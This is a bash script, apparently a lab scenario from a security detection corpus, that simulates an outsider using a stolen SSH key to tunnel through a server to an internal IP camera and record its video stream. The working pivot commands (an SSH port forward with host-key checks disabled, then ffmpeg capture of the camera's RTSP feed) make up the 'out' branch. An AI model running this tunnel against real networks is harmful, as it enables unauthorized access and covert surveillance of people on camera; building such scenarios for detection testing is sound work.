#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=remote-viewer,direct-pull half=report tool=sshd camera=10.20.0.11 far=out services=nvr:22 seconds=48 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Somebody outside with a stolen key lets the server's own SSH forward him right to the camera, and plays gate.
if [ "$1" = out ]; then
	sleep 2; mkdir -p "$LAB/away"; o=(-F /dev/null -i "$LAB/ssh/key" -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR)
	timeout 46 ssh "${o[@]}" -N -L 8554:10.20.0.11:554 root@10.30.0.2 & sleep 2
	exec timeout 44 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://127.0.0.1:8554/Streaming/Channels/101 -t 36 -c copy -f mpegts -y "$LAB/away/see.ts"
fi
if [ "$1" = services ]; then
	mkdir -p "$LAB/ssh" /run/sshd; ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/host"; ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/key"; cp "$LAB/ssh/key.pub" "$LAB/ssh/authorized"
	exec timeout 100 /usr/sbin/sshd -D -f /dev/null -o ListenAddress=10.30.0.2 -p 22 -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes
fi
sleep 46; [ "$(stat -c %s "$LAB/away/see.ts")" -gt 500000 ]
